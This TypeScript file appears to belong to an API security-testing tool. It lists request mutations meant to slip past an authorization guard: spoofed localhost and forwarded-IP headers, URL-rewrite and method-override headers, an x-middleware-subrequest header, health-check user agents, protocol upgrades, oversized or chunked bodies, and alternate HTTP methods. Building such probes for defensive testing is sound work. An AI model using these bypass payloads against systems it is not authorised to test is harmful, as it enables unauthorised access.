import type { OperationFacts } from '../../spec/operations.gen.ts'
import type { Draft } from './draft.ts'
import { authorizationOf, bare, type Form } from './forms.ts'
import type { Visit } from './visit.ts'

const hasBody = ({ requestMediaType }: OperationFacts) => requestMediaType !== null
const noKey = (visit: Visit) => authorizationOf(visit) === undefined

/** Bodies that a guard does not wait for. */
const bodies: readonly Form[] = [
  body(
    'a body over 64 KB',
    (draft) => padded(draft, 70_000),
    (visit) => visit.body.length > 65_536,
  ),
  body(
    'a body over 1 MB',
    (draft) => padded(draft, 1_100_000),
    (visit) => visit.body.length > 1_048_576,
  ),
  body(
    'a chunked body',
    (draft) => ({ ...bare(draft), chunked: true }),
    (visit) => visit.header('transfer-encoding') === 'chunked',
  ),
  body(
    'Expect: 100-continue',
    (draft) => bare(draft, 'Expect: 100-continue'),
    (visit) => visit.header('expect') !== undefined,
  ),
  body('another charset in Content-Type', charset, (visit) => /charset/i.test(visit.header('content-type') ?? '')),
]

/** White space behind the JSON, or a part that nobody asked for. */
function padded(draft: Draft, length: number): Draft {
  const isForm = draft.type?.startsWith('multipart')
  const filler = isForm ? `--strangers\r\nContent-Disposition: form-data; name="x"\r\n\r\n${'a'.repeat(length)}\r\n` : ''
  return { ...bare(draft), body: isForm ? filler + draft.body : draft.body + ' '.repeat(length) }
}

function charset(draft: Draft): Draft {
  return { ...bare(draft), type: `${draft.type}; charset=utf-8` }
}

/** Headers by which a guard takes a stranger for somebody of the house. */
const trusted: readonly (readonly [line: string, says: RegExp])[] = [
  ['X-Forwarded-For: 127.0.0.1', /^(127\.|::1|localhost|10\.)/],
  ['X-Real-IP: 127.0.0.1', /^(127\.|::1|localhost|10\.)/],
  ['X-Client-IP: 127.0.0.1', /^(127\.|::1|localhost|10\.)/],
  ['True-Client-IP: 127.0.0.1', /^(127\.|::1|localhost|10\.)/],
  ['X-Forwarded-Host: localhost', /^(localhost|127\.)/],
  ['Forwarded: for=127.0.0.1', /for="?(127\.|\[::1)/],
  ['X-Original-URL: /health', /\/health$/],
  ['X-Rewrite-URL: /health', /\/health$/],
  ['X-Forwarded-Uri: /health', /\/health$/],
  ['X-Original-Method: OPTIONS', /^OPTIONS$/],
  ['X-HTTP-Method-Override: OPTIONS', /^OPTIONS$/],
  ['X-HTTP-Method-Override: GET', /^GET$/],
  ['User-Agent: kube-probe/1.30', /^kube-probe/],
  ['User-Agent: GoogleHC/1.0', /^GoogleHC/],
  ['User-Agent: ELB-HealthChecker/2.0', /^ELB-Health/],
  ['Origin: http://localhost:3000', /localhost/],
  ['Origin: null', /^null$/],
  ['Referer: http://localhost/console', /\/console/],
  ['X-Forwarded-User: admin', /./],
  ['X-Remote-User: admin', /./],
  ['X-Internal: true', /./],
  ['X-Debug: 1', /./],
  ['x-middleware-subrequest: middleware:middleware:middleware:middleware:middleware', /middleware/],
  ['Access-Control-Request-Method: POST', /./],
  ['anthropic-version: 2023-06-01', /./],
]

const headers: readonly Form[] = [
  ...trusted.map(([line, says]) => {
    const name = line.slice(0, line.indexOf(':'))
    return form(
      'header',
      line,
      (draft) => bare(draft, line),
      (visit) => noKey(visit) && says.test(visit.header(name) ?? ''),
    )
  }),
  form(
    'header',
    'Upgrade: websocket',
    (draft) => bare(draft, 'Upgrade: websocket', 'Connection: Upgrade'),
    (visit) => noKey(visit) && visit.header('upgrade') === 'websocket',
  ),
  form(
    'header',
    'Upgrade: h2c',
    (draft) => bare(draft, 'Upgrade: h2c', 'Connection: Upgrade'),
    (visit) => noKey(visit) && visit.header('upgrade') === 'h2c',
  ),
  form(
    'header',
    'Host: localhost',
    (draft) => ({ ...bare(draft), host: 'localhost' }),
    (visit) => noKey(visit) && /^localhost(:|$)/.test(visit.header('host') ?? ''),
  ),
  form(
    'header',
    'no User-Agent',
    (draft) => bare(draft),
    (visit) => noKey(visit) && visit.header('user-agent') === undefined,
  ),
  form(
    'header',
    'HTTP/1.0',
    (draft) => ({ ...bare(draft), version: '1.0' }),
    (visit) => noKey(visit) && visit.version === '1.0',
  ),
]

/** Headers that name the path to a guard's back, on a path that is open. */
const rewritten: readonly Form[] = ['X-Original-URL', 'X-Rewrite-URL', 'X-Forwarded-Uri', 'X-Original-URI'].flatMap((name) =>
  ['/health', '/'].map((open) => ({
    ...form(
      'header',
      `${name}: the path, at ${open}`,
      (draft) => ({ ...bare(draft, `${name}: ${draft.path}`), path: open }),
      noKey,
    ),
    reaches: (visit, { method, path }) => visit.method === method && visit.path === open && visit.header(name) === path,
  })),
)

const methods = ['PUT', 'PATCH', 'DELETE', 'GET', 'POST', 'OPTIONS', 'HEAD', 'TRACE'] as const

/** The operation under another method, to a guard that knows one. */
const otherMethods: readonly Form[] = methods.map((method) => ({
  ...form('method', method, (draft) => ({ ...bare(draft), method }), noKey),
  // A HEAD in place of POST gets nothing that anybody could use.
  applies: (operation) => operation.method !== method && (method !== 'HEAD' || operation.method === 'GET'),
  reaches: (visit, { path }) => visit.method === method && visit.path === path,
}))

export const requestForms: readonly Form[] = [...bodies, ...headers, ...rewritten, ...otherMethods]

function form(family: string, name: string, change: Form['change'], lets: Form['lets']): Form {
  return { family, name, change, lets }
}

function body(name: string, change: Form['change'], isSo: (visit: Visit) => boolean): Form {
  return { ...form('body', name, change, (visit) => noKey(visit) && isSo(visit)), applies: hasBody }
}
